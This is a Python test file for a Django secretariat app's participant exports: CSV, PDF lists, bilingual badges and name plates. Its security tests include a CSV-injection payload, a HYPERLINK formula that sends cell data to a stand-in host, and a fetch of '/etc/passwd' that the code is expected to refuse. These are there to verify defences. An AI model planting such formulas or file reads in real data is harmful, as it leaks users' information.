"""The secretariat's exports of a meeting's participants: CSV and PDF in
protocol order, name badges and table name plates in both scripts."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group
from pypdf import PdfReader

from meetings import pdf
from meetings.enums import Accreditation, DelegateRole
from membership.enums import OrganisationKind
from membership.permissions import SECRETARIAT_EDITORS
from tests.factories.meetings import DelegateFactory, DelegationFactory, MeetingFactory
from tests.factories.membership import (
    OrganisationFactory,
    ParticipantStateFactory,
    StaffUserFactory,
)
from tests.pdf_checks import accessibility, expected

pytestmark = pytest.mark.django_db

SANDBOX = "default-src 'none'; sandbox"  # settings.FILE_CONTENT_SECURITY_POLICY, as nginx sends


@pytest.fixture
def meeting():
    meeting = MeetingFactory()
    turkmenistan = ParticipantStateFactory(name_en="Turkmenistan", name_ru="Туркменистан",
                                           rotation_key="Turkmenistan")
    afghanistan = ParticipantStateFactory(name_en="Afghanistan", name_ru="Афганистан",
                                          rotation_key="Afghanistan")
    iom = OrganisationFactory(name_en="International Organization for Migration",
                              name_ru="Международная организация по миграции",
                              kind=OrganisationKind.INTERNATIONAL)
    tkm = DelegationFactory(meeting=meeting, state=turkmenistan)
    afg = DelegationFactory(meeting=meeting, state=afghanistan)
    org = DelegationFactory(meeting=meeting, state=None, organisation=iom)
    DelegateFactory(delegation=tkm, surname_latin="Amanov", surname_cyrillic="Аманов",
                    role=DelegateRole.DELEGATE)
    DelegateFactory(delegation=tkm, surname_latin="Berdiyev", surname_cyrillic="Бердыев",
                    role=DelegateRole.HEAD)
    DelegateFactory(delegation=afg, surname_latin="Ahmadi", surname_cyrillic="",
                    given_names_cyrillic="", role=DelegateRole.HEAD)
    DelegateFactory(delegation=afg, surname_latin="Declined", role=DelegateRole.DELEGATE,
                    accreditation=Accreditation.DECLINED, accreditation_reason="No note")
    DelegateFactory(delegation=org, surname_latin="Smith", surname_cyrillic="Смит",
                    role=DelegateRole.HEAD)
    return meeting


def _text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def test_participants_csv_in_protocol_order_without_declined(meeting):
    content = pdf.participants_csv(meeting=meeting)

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [(row[1], row[2], row[3]) for row in rows[1:]] == [
        ("Afghanistan", "Head of delegation", "Ahmadi"),
        ("Turkmenistan", "Head of delegation", "Berdiyev"),
        ("Turkmenistan", "Delegate", "Amanov"),
        ("International Organization for Migration", "Head of delegation", "Smith"),
    ]


def test_participants_pdf_renders_cyrillic_in_protocol_order(meeting):
    text = _text(pdf.participants_pdf(meeting=meeting, language="ru"))

    positions = [text.index(name) for name in ("AHMADI", "BERDIYEV", "AMANOV", "SMITH")]
    assert positions == sorted(positions)
    assert "Бердыев" in text
    assert "Государства-участники" in text
    assert "DECLINED" not in text


def test_badges_pdf_has_both_scripts(meeting):
    text = _text(pdf.badges_pdf(meeting=meeting, language="en"))

    assert "BERDIYEV" in text
    assert "Бердыев" in text


def test_plates_pdf_one_page_per_delegation_in_both_languages(meeting):
    content = pdf.plates_pdf(meeting=meeting, language="en")

    reader = PdfReader(io.BytesIO(content))
    assert len(reader.pages) == 3
    first = reader.pages[0].extract_text()
    assert "Афганистан" in first
    assert "Afghanistan" in first


def test_url_fetcher_refuses_anything_but_the_fonts():
    fetcher = pdf.url_fetcher()

    with pytest.raises(ValueError, match="only the bundled fonts"):
        fetcher.fetch("file:///etc/passwd")
    with pytest.raises(ValueError, match="only the bundled fonts"):
        fetcher.fetch("https://example.org/font.ttf")


def test_admin_export_action_returns_the_csv(client, meeting):
    user = StaffUserFactory()
    user.groups.add(Group.objects.get(name=SECRETARIAT_EDITORS))
    client.force_login(user)
    selected = list(meeting.delegations.values_list("pk", flat=True))

    response = client.post("/en/admin/meetings/delegation/",
                           {"action": "export_csv", "_selected_action": selected})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{meeting.slug}-participants.csv"'
    )
    assert response["Content-Security-Policy"] == SANDBOX  # issue 22, item 10


def test_admin_export_action_two_meetings_refused(client, meeting):
    user = StaffUserFactory()
    user.groups.add(Group.objects.get(name=SECRETARIAT_EDITORS))
    client.force_login(user)
    other = DelegationFactory()
    selected = [meeting.delegations.first().pk, other.pk]

    response = client.post("/en/admin/meetings/delegation/",
                           {"action": "export_list_pdf", "_selected_action": selected},
                           follow=True)

    assert "Select delegations of one meeting" in response.content.decode()


# --- CSV injection (issue 22, item 3) -----------------------------------------------------

FORMULA = '=HYPERLINK("http://x/"&A1,"Click")'


def test_admin_participants_csv_neutralises_formula_cells(client, meeting):
    user = StaffUserFactory()
    user.groups.add(Group.objects.get(name=SECRETARIAT_EDITORS))
    client.force_login(user)
    delegation = meeting.delegations.get(state__name_en="Turkmenistan")
    DelegateFactory(
        delegation=delegation, role=DelegateRole.DELEGATE, surname_latin=FORMULA,
        given_names_latin="+Aman", surname_cyrillic="-Аманов", given_names_cyrillic="@Аман",
        position="\tMinister", agency="\rAgency", dietary_needs="=1+1",
        accessibility_needs="Wheelchair",
    )
    selected = list(meeting.delegations.values_list("pk", flat=True))

    response = client.post("/en/admin/meetings/delegation/",
                           {"action": "export_csv", "_selected_action": selected})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row[3].endswith(FORMULA))
    assert row[3:9] == ["'" + FORMULA, "'+Aman", "'-Аманов", "'@Аман", "'\tMinister",
                        "'\rAgency"]
    assert row[12:14] == ["'=1+1", "Wheelchair"]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_badges_pdf_is_bilingual_whatever_the_chosen_language(meeting):
    meeting.title_ru, meeting.title_en = "Совещание старших должностных лиц 2027 г.", "SOM 2027"
    meeting.save()

    text = " ".join(_text(pdf.badges_pdf(meeting=meeting, language="ru")).split())

    assert text.count("Совещание старших должностных лиц 2027 г.") == 4
    assert text.count("SOM 2027") == 4
    assert "Туркменистан Turkmenistan" in text
    assert "Международная организация по миграции International Organization for Migration" in text
    assert text.count("Глава делегации · Head of delegation") == 3
    assert "Делегат · Delegate" in text


def test_badges_pdf_puts_ten_cr80_cards_on_an_a4_sheet(meeting):
    delegation = meeting.delegations.get(state__name_en="Turkmenistan")
    for number in range(7):
        DelegateFactory(delegation=delegation, surname_latin=f"Extra{number}",
                        role=DelegateRole.ADVISER)

    reader = PdfReader(io.BytesIO(pdf.badges_pdf(meeting=meeting, language="en")))

    assert [round(float(v)) for v in reader.pages[0].mediabox[2:]] == [595, 842]  # A4
    assert len(reader.pages) == 2
    assert reader.pages[0].extract_text().count("Adviser") == 7
    assert "SMITH" in reader.pages[1].extract_text()  # the eleventh, in protocol order


@pytest.mark.parametrize("language", ["ru", "en"])
@pytest.mark.parametrize("build", [pdf.participants_pdf, pdf.badges_pdf, pdf.plates_pdf],
                         ids=["participants", "badges", "plates"])
def test_every_meeting_pdf_is_tagged_titled_with_embedded_unicode_fonts(meeting, build, language):
    assert accessibility(build(meeting=meeting, language=language)) == expected(language)


def test_demo_note_verbale_is_tagged_and_titled(meeting):
    from meetings.demo_registration import _note_verbale

    assert accessibility(_note_verbale(meeting, 7)) == expected("ru")
